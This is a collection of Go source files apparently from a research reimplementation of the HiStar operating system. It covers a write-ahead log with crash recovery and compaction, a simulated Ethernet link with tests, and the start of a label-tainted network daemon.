// the live suffix fits inside the dead prefix.  When no marker for epoch is
// known the log is left untouched apart from a compaction attempt — never
// guess a reclaim boundary.
func (l *Log) ReclaimBefore(epoch uint64) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	off, ok := l.markOffs[epoch]
	if ok && off > l.reclaimOff {
		l.reclaimOff = off
		for e, o := range l.markOffs {
			if o < off {
				delete(l.markOffs, e)
			}
		}
		if err := l.writeHeader(l.tail-logHeaderSize, l.reclaimOff); err != nil {
			return err
		}
		l.reclaims++
	}
	return l.compactLocked()
}

// compactLocked physically removes the reclaimed dead prefix by copying the
// live suffix to the front of the region, but only when the two do not
// overlap: the copy then lands entirely inside bytes the on-disk header no
// longer references, so a crash at any point leaves the old header's view
// intact and the final header write switches over atomically.  The caller
// holds l.mu.
func (l *Log) compactLocked() error {
	live := l.tail - logHeaderSize - l.reclaimOff
	if l.reclaimOff == 0 || live > l.reclaimOff {
		return nil
	}
	if live > 0 {
		buf := make([]byte, live)
		if _, err := l.d.ReadAt(buf, l.start+logHeaderSize+l.reclaimOff); err != nil {
			return err
		}
		if _, err := l.d.WriteAt(buf, l.start+logHeaderSize); err != nil {
			return err
		}
		// Barrier: the copied records must be on the platter before the
		// header points at them.
		if err := l.d.Flush(); err != nil {
			return err
		}
	}
	shift := l.reclaimOff
	l.reclaimOff = 0
	l.tail -= shift
	if l.markOff >= shift {
		l.markOff -= shift
	} else {
		l.markOff = 0
	}
	for e := range l.markOffs {
		l.markOffs[e] -= shift
	}
	if err := l.writeHeader(l.tail-logHeaderSize, 0); err != nil {
		return err
	}
	l.compactions++
	return nil
}

// LiveBytes returns the committed bytes recovery would actually replay —
// the region length minus any reclaimed dead prefix.  The store uses it to
// decide when retaining a fallback generation would starve future commits.
func (l *Log) LiveBytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.tail - logHeaderSize - l.reclaimOff
}

// ReplayStart returns the index into the slice the last Recover returned of
// the first record after the last generation marker carrying epoch, and
// whether such a marker exists.  Normal recovery replays from the marker of
// the snapshot it mounted; the metadata-fallback path uses the older
// snapshot's epoch, whose generation ReclaimBefore retains for exactly this
// purpose.
func (l *Log) ReplayStart(epoch uint64) (int, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	idx, ok := l.markIdxs[epoch]
	return idx, ok
}

// RecoveredAfterMark returns the index into the slice the last Recover
// returned of the first record after the last generation marker — the start
// of the current checkpoint generation.  Normal recovery replays from here;
// the metadata-fallback path replays everything.
func (l *Log) RecoveredAfterMark() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.markIdx
}

// Recover reads the committed records back from the log region (after a
// crash or restart).  Records damaged mid-write are detected by checksum;
// everything before the damage is returned along with ErrCorrupt, and the
// log is resealed to that valid prefix so subsequent commits extend it
// rather than the damaged tail.  A version-1 log (written before records
// carried labels) is decoded with the legacy layout and rewritten in the
// current format.
func (l *Log) Recover() ([]Record, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	var hdr [logHeaderSize]byte
	if _, err := l.d.ReadAt(hdr[:], l.start); err != nil {
		return nil, err
	}
	allZero := true
	for _, b := range hdr {
		if b != 0 {
			allZero = false
			break
		}
	}
	if allZero {
		// Fresh region: nothing ever logged.
		l.resetRecoveredState()
		return nil, nil
	}
	if got := binary.LittleEndian.Uint32(hdr[0:]); got != logMagic {
		// Non-zero but wrong magic is damage, not a fresh region — reseal
		// empty and say so rather than silently dropping the log.
		l.resetRecoveredState()
		if err := l.writeHeader(0, 0); err != nil {
			return nil, err
		}
		return nil, fmt.Errorf("%w: bad log magic at offset %d: got %#x, want %#x", ErrCorrupt, l.start, got, logMagic)
	}
	version := hdr[4]
	bodyOff := int64(logHeaderSize)
	switch version {
	case 0, 2:
		// Pre-CRC header layouts: the body starts right after 16 bytes.
		bodyOff = logHeaderV2Size
	default:
		// Version 3 and anything newer carry a header CRC at the same
		// offset; verify it before trusting any header field.  A mismatch on
		// an unknown version byte means rot, not a future format.
		want := binary.LittleEndian.Uint32(hdr[16:])
		if got := crc32.Checksum(hdr[:16], castagnoli); got != want {
			l.resetRecoveredState()
			if err := l.writeHeader(0, 0); err != nil {
				return nil, err
			}
			return nil, fmt.Errorf("%w: log header checksum mismatch at offset %d: got %#x, want %#x", ErrCorrupt, l.start, got, want)
		}
		if version != logVersion && version != 3 {
			// A genuine future format: refuse the mount without touching the
			// region, so the newer code that wrote it can still recover.
			return nil, fmt.Errorf("%w %d", ErrVersion, version)
		}
	}
	committed := int64(binary.LittleEndian.Uint64(hdr[8:]))
	if committed < 0 || committed > l.size-bodyOff {
		l.resetRecoveredState()
		if err := l.writeHeader(0, 0); err != nil {
			return nil, err
		}
		return nil, fmt.Errorf("%w: committed length %d out of range", ErrCorrupt, committed)
	}
	var startOff int64
	if version == logVersion {
		// The start offset (and its CRC) exists only in the current layout;
		// older versions implicitly start at 0.
		want := binary.LittleEndian.Uint32(hdr[28:])
		if got := crc32.Checksum(hdr[20:28], castagnoli); got != want {
			l.resetRecoveredState()
			if err := l.writeHeader(0, 0); err != nil {
				return nil, err
			}
			return nil, fmt.Errorf("%w: log start-offset checksum mismatch at offset %d: got %#x, want %#x", ErrCorrupt, l.start, got, want)
		}
		startOff = int64(binary.LittleEndian.Uint64(hdr[20:]))
		if startOff < 0 || startOff > committed {
			l.resetRecoveredState()
			if err := l.writeHeader(0, 0); err != nil {
				return nil, err
			}
			return nil, fmt.Errorf("%w: start offset %d out of range (committed %d)", ErrCorrupt, startOff, committed)
		}
	}
	body := make([]byte, committed-startOff)
	if len(body) > 0 {
		if _, err := l.d.ReadAt(body, l.start+bodyOff+startOff); err != nil {
			return nil, err
		}
	}
	var (
		recs []Record
		good int64
		err  error
	)
	if version == 0 {
		recs, good, err = decodeRecordsV1(body)
		l.recoveredLegacy = true
	} else {
		recs, good, err = decodeRecords(body)
	}
	if version != logVersion || good != committed-startOff {
		// Format migration or damaged tail: rewrite the valid prefix in the
		// current format and reseal the header to it.
		if werr := l.rewrite(recs); werr != nil {
			return recs, werr
		}
		return recs, err
	}
	l.tail = logHeaderSize + committed
	l.reclaimOff = startOff
	l.setMarkBoundary(recs, startOff)
	return recs, err
}

// resetRecoveredState clears every field derived from a recovered log body,
// leaving the log logically empty; the caller holds l.mu.
func (l *Log) resetRecoveredState() {
	l.tail = logHeaderSize
	l.markIdx, l.markOff = 0, 0
	l.reclaimOff = 0
	l.markOffs = nil
	l.markIdxs = nil
}

// setMarkBoundary records where generation markers sit in the recovered
// records — the legacy last-marker index/offset plus the per-epoch maps —
// with body offsets counted from base (the reclaimed start offset the
// records were decoded after); the caller holds l.mu.
func (l *Log) setMarkBoundary(recs []Record, base int64) {
	l.markIdx, l.markOff = 0, 0
	l.markOffs = make(map[uint64]int64)
	l.markIdxs = make(map[uint64]int)
	off := base
	for i, r := range recs {
		if r.Mark {
			l.markOffs[r.ObjectID] = off
			l.markIdxs[r.ObjectID] = i + 1
			l.markIdx = i + 1
			l.markOff = off + encodedSize(r)
		}
		off += encodedSize(r)
	}
}

// rewrite replaces the committed log contents with recs encoded in the
// current format; the caller holds l.mu.
func (l *Log) rewrite(recs []Record) error {
	buf := encodeRecords(recs)
	if logHeaderSize+int64(len(buf)) > l.size {
		return fmt.Errorf("wal: migrated log (%d bytes) exceeds the region", len(buf))
	}
	if len(buf) > 0 {
		if _, err := l.d.WriteAt(buf, l.start+logHeaderSize); err != nil {
			return err
		}
	}
	if err := l.writeHeader(int64(len(buf)), 0); err != nil {
		return err
	}
	l.tail = logHeaderSize + int64(len(buf))
	l.reclaimOff = 0
	l.setMarkBoundary(recs, 0)
	return nil
}

// RecoveredLegacy reports whether the last Recover migrated a version-1 log.
// Label-less records from such a log say nothing about the object's label;
// a label-less version-2 record asserts the object carried none.
func (l *Log) RecoveredLegacy() bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.recoveredLegacy
}

// Stats describes cumulative log activity.
type Stats struct {
	// Commits counts successful Commit calls (each one header update+flush).
	Commits uint64
	// Applies counts Truncate calls (the log being applied to home locations).
	Applies uint64
	// Appended counts records buffered via Append and AppendBatch.
	Appended uint64
	// Batches counts accepted AppendBatch calls and BatchRecords the records
	// appended through them; MaxBatch is the largest single batch.  These
	// count at the append layer — a batch whose Commit later fails is still
	// counted here (the store's committer stats count only committed
	// batches).  Appended ≫ Commits with Batches > 0 is group commit
	// working.
	Batches      uint64
	BatchRecords uint64
	MaxBatch     int
	// BatchBytes counts the encoded bytes appended through AppendBatch, so
	// bytes-per-flush is BatchBytes/Commits when all traffic is batched.
	BatchBytes uint64
	// Rotations counts Rotate calls that retained a previous checkpoint
	// generation behind a marker (a plain truncate counts only in Applies).
	Rotations uint64
	// Reclaims counts ReclaimBefore calls that advanced the start offset;
	// Compactions counts the physical dead-prefix compactions that followed
	// (here or opportunistically inside a would-be-full Commit).
	Reclaims    uint64
	Compactions uint64
}

// Stats returns cumulative commit, apply (truncate), append and batch counts.
func (l *Log) Stats() Stats {
	l.mu.Lock()
	defer l.mu.Unlock()
	return Stats{
		Commits:      l.commits,
		Applies:      l.applies,
		Appended:     l.appended,
		Batches:      l.batches,
		BatchRecords: l.batchRecords,
		MaxBatch:     l.maxBatch,
		BatchBytes:   l.batchBytes,
		Rotations:    l.rotations,
		Reclaims:     l.reclaims,
		Compactions:  l.compactions,
	}
}

func encodeRecords(recs []Record) []byte {
	var total int64
	for _, r := range recs {
		total += encodedSize(r)
	}
	buf := make([]byte, 0, total)
	for _, r := range recs {
		var hdr [recHeaderSize]byte
		binary.LittleEndian.PutUint64(hdr[0:], r.ObjectID)
		binary.LittleEndian.PutUint32(hdr[8:], uint32(len(r.Data)))
		binary.LittleEndian.PutUint16(hdr[12:], uint16(len(r.Label)))
		if r.Delete {
			hdr[14] |= flagDelete
		}
		if len(r.Label) > 0 {
			hdr[14] |= flagHasLabel
		}
		if r.Mark {
			hdr[14] |= flagMark
		}
		if r.Clone {
			hdr[14] |= flagClone
		}
		if r.Bundle {
			hdr[14] |= flagBundle
		}
		crc := crc32.NewIEEE()
		crc.Write(hdr[:15])
		crc.Write(r.Label)
		crc.Write(r.Data)
		binary.LittleEndian.PutUint32(hdr[15:], crc.Sum32())
		buf = append(buf, hdr[:]...)
		buf = append(buf, r.Label...)
		buf = append(buf, r.Data...)
	}
	return buf
}

// decodeRecords decodes version-2 records, returning the records decoded,
// the number of bytes consumed by them, and ErrCorrupt if damage stopped the
// decode early.
func decodeRecords(buf []byte) ([]Record, int64, error) {
	var out []Record
	var consumed int64
	for len(buf) > 0 {
		if len(buf) < recHeaderSize {
			return out, consumed, ErrCorrupt
		}
		id := binary.LittleEndian.Uint64(buf[0:])
		nd := int(binary.LittleEndian.Uint32(buf[8:]))
		nl := int(binary.LittleEndian.Uint16(buf[12:]))
		flags := buf[14]
		wantCRC := binary.LittleEndian.Uint32(buf[15:])
		if flags&^byte(flagDelete|flagHasLabel|flagMark|flagClone|flagBundle) != 0 {
			return out, consumed, ErrCorrupt
		}
		if (flags&flagHasLabel != 0) != (nl > 0) {
			return out, consumed, ErrCorrupt
		}
		if flags&flagMark != 0 && (flags != flagMark || nd != 0 || nl != 0) {
			// A generation marker carries nothing but the flag.
			return out, consumed, ErrCorrupt
		}
		if flags&flagClone != 0 && flags&(flagDelete|flagMark|flagBundle) != 0 {
			// A clone alias is neither a tombstone, a marker, nor a bundle.
			return out, consumed, ErrCorrupt
		}
		if flags&flagBundle != 0 && flags&^byte(flagBundle) != 0 {
			// Bundle metadata carries only its payload: no label, no other flag.
			return out, consumed, ErrCorrupt
		}
		if nd < 0 || len(buf) < recHeaderSize+nl+nd {
			return out, consumed, ErrCorrupt
		}
		lbl := buf[recHeaderSize : recHeaderSize+nl]
		data := buf[recHeaderSize+nl : recHeaderSize+nl+nd]
		crc := crc32.NewIEEE()
		crc.Write(buf[:15])
		crc.Write(lbl)
		crc.Write(data)
		if crc.Sum32() != wantCRC {
			return out, consumed, ErrCorrupt
		}
		r := Record{
			ObjectID: id,
			Delete:   flags&flagDelete != 0,
			Mark:     flags&flagMark != 0,
			Clone:    flags&flagClone != 0,
			Bundle:   flags&flagBundle != 0,
		}
		if nd > 0 {
			r.Data = append([]byte(nil), data...)
		}
		if nl > 0 {
			r.Label = append([]byte(nil), lbl...)
		}
		out = append(out, r)
		buf = buf[recHeaderSize+nl+nd:]
		consumed += recHeaderSize + int64(nl) + int64(nd)
	}
	return out, consumed, nil
}

// decodeRecordsV1 decodes the legacy label-less record layout.
func decodeRecordsV1(buf []byte) ([]Record, int64, error) {
	var out []Record
	var consumed int64
	for len(buf) > 0 {
		if len(buf) < recHeaderV1Size {
			return out, consumed, ErrCorrupt
		}
		id := binary.LittleEndian.Uint64(buf[0:])
		n := int(binary.LittleEndian.Uint32(buf[8:]))
		del := buf[12] == 1
		wantCRC := binary.LittleEndian.Uint32(buf[13:])
		if n < 0 || len(buf) < recHeaderV1Size+n {
			return out, consumed, ErrCorrupt
		}
		data := buf[recHeaderV1Size : recHeaderV1Size+n]
		crc := crc32.NewIEEE()
		crc.Write(buf[:13])
		crc.Write(data)
		if crc.Sum32() != wantCRC {
			return out, consumed, ErrCorrupt
		}
		out = append(out, Record{ObjectID: id, Data: append([]byte(nil), data...), Delete: del})
		buf = buf[recHeaderV1Size+n:]
		consumed += recHeaderV1Size + int64(n)
	}
	return out, consumed, nil
}
