// Package wal implements the write-ahead log the HiStar single-level store
// uses for crash consistency (Section 4): synchronous updates are queued in
// a sequential on-disk log and applied to their home locations in batches.
// Records are logical — an object ID plus its new contents (or a tombstone)
// — so recovery does not depend on the physical layout chosen later by the
// extent allocator.
package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"sync"

	"histar/internal/disk"
)

// Record is one logged update: the full new contents of an object, or its
// deletion.
type Record struct {
	ObjectID uint64
	Data     []byte
	Delete   bool
}

// Errors returned by the log.
var (
	// ErrFull is returned when a commit would overflow the log region; the
	// caller must apply (checkpoint) and truncate first.
	ErrFull = errors.New("wal: log region full")
	// ErrCorrupt is returned when recovery encounters a damaged record; all
	// records before the damage are still returned.
	ErrCorrupt = errors.New("wal: corrupt record")
)

const (
	recHeaderSize = 8 + 4 + 1 + 4 // id, length, delete flag, crc
	commitMagic   = 0x434f4d54    // "COMT"
	logHeaderSize = 16            // magic + committed length
	logMagic      = 0x48574c4f    // "HWLO"
)

// Log is a redo log occupying a fixed region of the disk.  It is safe for
// concurrent use.
type Log struct {
	mu    sync.Mutex
	d     *disk.Disk
	start int64
	size  int64

	pending  []Record // appended but not yet committed
	tail     int64    // next write offset within the region (after header)
	commits  uint64
	applies  uint64
	appended uint64
}

// New creates a log over the region [start, start+size) of d and writes a
// fresh header.  Any previous log contents are discarded.
func New(d *disk.Disk, start, size int64) (*Log, error) {
	l := &Log{d: d, start: start, size: size, tail: logHeaderSize}
	if err := l.writeHeader(0); err != nil {
		return nil, err
	}
	return l, nil
}

// Open attaches to an existing log region without erasing it; use Recover to
// read back committed records after a crash.
func Open(d *disk.Disk, start, size int64) *Log {
	return &Log{d: d, start: start, size: size, tail: logHeaderSize}
}

func (l *Log) writeHeader(committedBytes int64) error {
	var hdr [logHeaderSize]byte
	binary.LittleEndian.PutUint64(hdr[0:], logMagic)
	binary.LittleEndian.PutUint64(hdr[8:], uint64(committedBytes))
	if _, err := l.d.WriteAt(hdr[:], l.start); err != nil {
		return err
	}
	return l.d.Flush()
}

// Append buffers a record for the next Commit.
func (l *Log) Append(r Record) {
	l.mu.Lock()
	defer l.mu.Unlock()
	r.Data = append([]byte(nil), r.Data...)
	l.pending = append(l.pending, r)
	l.appended++
}

// PendingBytes returns the encoded size of buffered (uncommitted) records.
func (l *Log) PendingBytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	var n int64
	for _, r := range l.pending {
		n += recHeaderSize + int64(len(r.Data))
	}
	return n
}

// CommittedBytes returns how much of the log region holds committed records.
func (l *Log) CommittedBytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.tail - logHeaderSize
}

// Commit durably appends all buffered records to the log: a sequential write
// into the log region followed by a header update and flush.  After Commit
// returns, the records will survive a crash and be returned by Recover.
func (l *Log) Commit() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.pending) == 0 {
		return nil
	}
	buf := encodeRecords(l.pending)
	if l.tail+int64(len(buf)) > l.size {
		return ErrFull
	}
	if _, err := l.d.WriteAt(buf, l.start+l.tail); err != nil {
		return err
	}
	newTail := l.tail + int64(len(buf))
	// Header update makes the newly appended records part of the committed
	// prefix; the flush inside writeHeader orders both.
	if err := l.writeHeader(newTail - logHeaderSize); err != nil {
		return err
	}
	l.tail = newTail
	l.pending = l.pending[:0]
	l.commits++
	return nil
}

// Truncate discards the committed log contents, typically after the caller
// has applied them to their home locations and checkpointed its metadata.
func (l *Log) Truncate() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if err := l.writeHeader(0); err != nil {
		return err
	}
	l.tail = logHeaderSize
	l.applies++
	return nil
}

// Recover reads the committed records back from the log region (after a
// crash or restart).  Records damaged mid-write are detected by checksum and
// everything before the damage is returned along with ErrCorrupt.
func (l *Log) Recover() ([]Record, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	var hdr [logHeaderSize]byte
	if _, err := l.d.ReadAt(hdr[:], l.start); err != nil {
		return nil, err
	}
	if binary.LittleEndian.Uint64(hdr[0:]) != logMagic {
		// Fresh region: nothing logged.
		l.tail = logHeaderSize
		return nil, nil
	}
	committed := int64(binary.LittleEndian.Uint64(hdr[8:]))
	if committed < 0 || committed > l.size-logHeaderSize {
		return nil, fmt.Errorf("%w: committed length %d out of range", ErrCorrupt, committed)
	}
	body := make([]byte, committed)
	if committed > 0 {
		if _, err := l.d.ReadAt(body, l.start+logHeaderSize); err != nil {
			return nil, err
		}
	}
	recs, err := decodeRecords(body)
	l.tail = logHeaderSize + committed
	return recs, err
}

// Stats returns cumulative commit, apply (truncate) and append counts.
func (l *Log) Stats() (commits, applies, appended uint64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.commits, l.applies, l.appended
}

func encodeRecords(recs []Record) []byte {
	var total int
	for _, r := range recs {
		total += recHeaderSize + len(r.Data)
	}
	buf := make([]byte, 0, total)
	for _, r := range recs {
		var hdr [recHeaderSize]byte
		binary.LittleEndian.PutUint64(hdr[0:], r.ObjectID)
		binary.LittleEndian.PutUint32(hdr[8:], uint32(len(r.Data)))
		if r.Delete {
			hdr[12] = 1
		}
		crc := crc32.ChecksumIEEE(append(hdr[:13:13], r.Data...))
		binary.LittleEndian.PutUint32(hdr[13:], crc)
		buf = append(buf, hdr[:]...)
		buf = append(buf, r.Data...)
	}
	return buf
}

func decodeRecords(buf []byte) ([]Record, error) {
	var out []Record
	for len(buf) > 0 {
		if len(buf) < recHeaderSize {
			return out, ErrCorrupt
		}
		id := binary.LittleEndian.Uint64(buf[0:])
		n := int(binary.LittleEndian.Uint32(buf[8:]))
		del := buf[12] == 1
		wantCRC := binary.LittleEndian.Uint32(buf[13:])
		if len(buf) < recHeaderSize+n {
			return out, ErrCorrupt
		}
		data := buf[recHeaderSize : recHeaderSize+n]
		crc := crc32.ChecksumIEEE(append(append([]byte(nil), buf[:13]...), data...))
		if crc != wantCRC {
			return out, ErrCorrupt
		}
		out = append(out, Record{ObjectID: id, Data: append([]byte(nil), data...), Delete: del})
		buf = buf[recHeaderSize+n:]
	}
	return out, nil
}
