package netsim

import (
	"testing"
	"time"

	"histar/internal/vclock"
)

func TestLinkDeliversAndChargesTime(t *testing.T) {
	clk := &vclock.Clock{}
	l := NewLink(LinkParams{BandwidthBitsPerSec: 8e6, MTU: 1500}, clk) // 1 MB/s
	var atA, atB [][]byte
	l.Attach(
		EndpointFunc(func(f []byte) { atA = append(atA, f) }),
		EndpointFunc(func(f []byte) { atB = append(atB, f) }),
	)
	l.SendAtoB(make([]byte, 1000))
	l.SendBtoA([]byte("reply"))
	if len(atB) != 1 || len(atA) != 1 {
		t.Fatalf("delivery counts: a=%d b=%d", len(atA), len(atB))
	}
	// 1000 bytes at 1 MB/s ≈ 1 ms of simulated time.
	if clk.Now() < 900*time.Microsecond {
		t.Errorf("simulated time %v too small", clk.Now())
	}
	ab, ba, fab, fba := l.Stats()
	if ab != 1000 || ba != 5 || fab != 1 || fba != 1 {
		t.Errorf("stats = %d %d %d %d", ab, ba, fab, fba)
	}
}

func TestPaperEthernetSaturationTime(t *testing.T) {
	clk := &vclock.Clock{}
	l := NewLink(PaperEthernet(), clk)
	l.Attach(nil, EndpointFunc(func([]byte) {}))
	// 100 MB at 100 Mbps should take ≈ 8.4 simulated seconds.
	const total = 100 << 20
	frame := make([]byte, l.MTU())
	for sent := 0; sent < total; sent += len(frame) {
		l.SendAtoB(frame)
	}
	got := clk.Now().Seconds()
	if got < 8.0 || got > 9.5 {
		t.Errorf("100MB transfer simulated time = %.2fs, want ≈8.4s", got)
	}
}
