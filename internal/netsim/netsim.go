// Package netsim simulates the Ethernet segment the evaluation machines sit
// on: a link with configurable bandwidth and latency connecting the HiStar
// machine's network device to simulated remote hosts (the wget origin
// server, the VPN peer, web clients).  Transfer time is charged to a
// vclock.Clock so the "can HiStar saturate a 100 Mbps link" experiment
// (Figure 13) runs in milliseconds of real time.
package netsim

import (
	"sync"
	"time"

	"histar/internal/vclock"
)

// LinkParams describe a simulated link.
type LinkParams struct {
	// BandwidthBitsPerSec is the link rate (default 100 Mbps, the paper's
	// Ethernet).
	BandwidthBitsPerSec float64
	// Latency is the one-way propagation delay.
	Latency time.Duration
	// MTU is the maximum frame size (default 1500).
	MTU int
}

// PaperEthernet returns the evaluation network: 100 Mbps switched Ethernet
// with a small propagation delay.
func PaperEthernet() LinkParams {
	return LinkParams{BandwidthBitsPerSec: 100e6, Latency: 100 * time.Microsecond, MTU: 1500}
}

// Endpoint receives frames delivered over a link.
type Endpoint interface {
	Deliver(frame []byte)
}

// EndpointFunc adapts a function to the Endpoint interface.
type EndpointFunc func(frame []byte)

// Deliver implements Endpoint.
func (f EndpointFunc) Deliver(frame []byte) { f(frame) }

// Link is a bidirectional link between two endpoints.
type Link struct {
	mu     sync.Mutex
	params LinkParams
	clock  *vclock.Clock
	a, b   Endpoint

	bytesAB, bytesBA   uint64
	framesAB, framesBA uint64
}

// NewLink creates a link charging transfer time to clock.
func NewLink(params LinkParams, clock *vclock.Clock) *Link {
	if params.BandwidthBitsPerSec <= 0 {
		params.BandwidthBitsPerSec = 100e6
	}
	if params.MTU <= 0 {
		params.MTU = 1500
	}
	return &Link{params: params, clock: clock}
}

// Attach connects the two endpoints.  Pass nil for an endpoint that only
// transmits.
func (l *Link) Attach(a, b Endpoint) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.a, l.b = a, b
}

// MTU returns the link MTU.
func (l *Link) MTU() int { return l.params.MTU }

func (l *Link) transferTime(n int) time.Duration {
	// Propagation latency is not charged per frame: frames pipeline on the
	// wire, so sustained transfers are bandwidth-limited (which is what the
	// Figure 13 wget row measures); Latency is exposed for connection-setup
	// accounting by higher layers.
	sec := float64(n*8) / l.params.BandwidthBitsPerSec
	return time.Duration(sec * float64(time.Second))
}

// SendAtoB transmits a frame from endpoint A to endpoint B, charging the
// simulated clock and delivering synchronously.
func (l *Link) SendAtoB(frame []byte) {
	l.mu.Lock()
	dst := l.b
	l.bytesAB += uint64(len(frame))
	l.framesAB++
	l.mu.Unlock()
	if l.clock != nil {
		l.clock.Advance(l.transferTime(len(frame)))
	}
	if dst != nil {
		dst.Deliver(append([]byte(nil), frame...))
	}
}

// SendBtoA transmits a frame from endpoint B to endpoint A.
func (l *Link) SendBtoA(frame []byte) {
	l.mu.Lock()
	dst := l.a
	l.bytesBA += uint64(len(frame))
	l.framesBA++
	l.mu.Unlock()
	if l.clock != nil {
		l.clock.Advance(l.transferTime(len(frame)))
	}
	if dst != nil {
		dst.Deliver(append([]byte(nil), frame...))
	}
}

// Stats returns cumulative byte and frame counts in each direction.
func (l *Link) Stats() (bytesAB, bytesBA, framesAB, framesBA uint64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.bytesAB, l.bytesBA, l.framesAB, l.framesBA
}
