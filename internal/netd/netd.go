// Package netd is the user-level network stack daemon (Section 5.7): the
// protocol stack runs in an ordinary process that owns the network device's
// nr/nw categories and is tainted i2 by everything it reads from the wire.
// It exposes a single service gate through which client processes perform
// socket operations; because the gate carries the i2 taint, every client
// that talks to the network becomes tainted i2, and because transmitting
// requires writing the device object, a thread tainted in any other secrecy
// category (for instance ClamAV's v) simply cannot send.
//
// A compromised netd can therefore mount only the equivalent of an
// eavesdropping or packet-tampering attack; it cannot leak data protected by
// categories it does not own.
package netd

import (
	"encoding/binary"
	"errors"
	"sync"

	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/netsim"
	"histar/internal/unixlib"
)

// Errors.
var (
	ErrNoRoute  = errors.New("netd: no such remote host")
	ErrClosed   = errors.New("netd: connection closed")
	ErrBadReply = errors.New("netd: malformed daemon reply")
)

// RemoteHandler is the code running on a simulated remote host: it receives
// the client's request bytes and returns the response body.
type RemoteHandler func(request []byte) []byte

// Frame types on the simulated wire.
const (
	frOpen = iota
	frData
	frPush // end of request; remote runs its handler
	frRespData
	frRespEnd
)

// Options configure a network daemon instance.
type Options struct {
	// TaintName is the display name of the receive-taint category ("i" for
	// the Internet stack, "v" for the VPN stack in Section 6.3).
	TaintName string
	// Link connects the device to the remote world; if nil a standalone
	// link with PaperEthernet parameters and no clock is created.
	Link *netsim.Link
	// MountPath is where the daemon's control directory is mounted by
	// convention (informational; clients hold a *Daemon handle directly).
	MountPath string
}

// Daemon is one running network stack.
type Daemon struct {
	sys  *unixlib.System
	proc *unixlib.Process
	dev  kernel.CEnt
	link *netsim.Link

	// Nr and Nw protect the device; Taint is the category that taints
	// everything received ("i" or "v").
	Nr, Nw, Taint label.Category

	// Gate is the socket service gate.
	Gate kernel.CEnt
	// Scratch is a container labeled {taint2, 1} hosted by the daemon, in
	// which already-tainted clients can allocate shared-memory segments for
	// the fast path (a tainted thread cannot write its own untainted process
	// container).
	Scratch kernel.ID

	mu      sync.Mutex
	remotes map[string]RemoteHandler
	conns   map[uint32]*conn
	nextID  uint32

	stats Stats
}

// Stats counts daemon activity.
type Stats struct {
	Dials, Sends, Recvs  uint64
	BytesSent, BytesRecv uint64
	GateCalls            uint64
	FastpathReads        uint64
}

type conn struct {
	id     uint32
	addr   string
	rxBuf  []byte
	closed bool
	eof    bool
	cond   *sync.Cond
	// fastSeg, when non-nil, is a shared-memory segment the daemon copies
	// received data into so the client can read it without a gate call (the
	// Section 5.7 optimization).
	fastSeg *kernel.CEnt
}

// New starts a network daemon on sys.  The daemon allocates the nr/nw/taint
// categories, creates the (simulated) network device labeled
// {nr3, nw0, taint2, 1}, creates the socket service gate, and starts the
// receive loop.
func New(sys *unixlib.System, opts Options) (*Daemon, error) {
	if opts.TaintName == "" {
		opts.TaintName = "i"
	}
	proc, err := sys.NewInitProcess("")
	if err != nil {
		return nil, err
	}
	d := &Daemon{
		sys:     sys,
		proc:    proc,
		link:    opts.Link,
		remotes: make(map[string]RemoteHandler),
		conns:   make(map[uint32]*conn),
	}
	if d.link == nil {
		d.link = netsim.NewLink(netsim.PaperEthernet(), nil)
	}
	tc := proc.TC
	if d.Nr, err = tc.CategoryCreateNamed("nr"); err != nil {
		return nil, err
	}
	if d.Nw, err = tc.CategoryCreateNamed("nw"); err != nil {
		return nil, err
	}
	// The receive-taint category is owned by the machine's bootstrap (the
	// administrator decides who may untaint network-derived data, e.g. after
	// a virus scan) — not by netd, which deliberately cannot bypass it.
	if d.Taint, err = sys.InitThread().CategoryCreateNamed(opts.TaintName); err != nil {
		return nil, err
	}
	// The network device: {nr3, nw0, taint2, 1}.
	devLbl := label.Intern(label.New(label.L1,
		label.P(d.Nr, label.L3), label.P(d.Nw, label.L0), label.P(d.Taint, label.L2)))
	devID, err := sys.Kern.DeviceCreate(sys.Kern.RootContainer(), devLbl, [6]byte{0x52, 0x54, 0, 0x12, 0x34, 0x56}, "eepro100")
	if err != nil {
		return nil, err
	}
	d.dev = kernel.CEnt{Container: sys.Kern.RootContainer(), Object: devID}
	// Wire the device to the link: transmit goes A→B, the remote world
	// injects B→A back into the device.
	sys.Kern.SetDeviceTransmitHook(devID, func(pkt []byte) { d.link.SendAtoB(pkt) })
	d.link.Attach(
		netsim.EndpointFunc(func(frame []byte) { _ = sys.Kern.DeviceInject(devID, frame) }),
		netsim.EndpointFunc(d.remoteDeliver),
	)

	// The socket service gate: label {nr⋆, nw⋆, taint2, 1}, so every caller
	// acquires the stack's taint along with the (temporary) device
	// privileges — talking to the network at all marks a process as carrying
	// network-derived information, exactly as in Figure 11.  The gate (and
	// the scratch container below) are created before the daemon taints
	// itself: once tainted, the daemon could no longer write its own
	// untainted process container.
	gateLbl := label.Intern(label.New(label.L1,
		label.P(d.Nr, label.Star), label.P(d.Nw, label.Star), label.P(d.Taint, label.L2)))
	gid, err := tc.GateCreate(proc.ProcCt, kernel.GateSpec{
		Label:     gateLbl,
		Clearance: label.New(label.L2),
		Descrip:   "netd socket gate",
		Entry:     d.socketGateEntry,
	})
	if err != nil {
		return nil, err
	}
	d.Gate = kernel.CEnt{Container: proc.ProcCt, Object: gid}

	// Scratch container for client-allocated shared segments.
	scratch, err := tc.ContainerCreate(proc.ProcCt,
		label.New(label.L1, label.P(d.Taint, label.L2)), "netd scratch", 0, kernel.QuotaInfinite)
	if err != nil {
		return nil, err
	}
	d.Scratch = scratch

	// Taint the daemon's thread with {taint2} — it handles wire data — while
	// keeping ownership of nr and nw.
	lbl, _ := tc.SelfLabel()
